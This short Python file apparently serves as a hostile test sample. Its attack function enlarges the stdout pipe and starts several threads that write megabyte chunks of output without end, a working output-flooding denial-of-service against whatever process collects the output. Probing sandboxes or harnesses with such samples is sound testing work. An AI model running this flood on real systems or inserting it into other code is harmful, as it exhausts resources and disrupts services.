"""Output without end on descriptors 1 and 2, from many threads, into an enlarged pipe."""
import fcntl, os, threading
def flood():
    while True:
        os.write(1, b"x" * 2**20)
def attack(name, args, keywords):
    fcntl.fcntl(1, 1031, 2**20)
    for _ in range(4):
        threading.Thread(target=flood).start()
    flood()
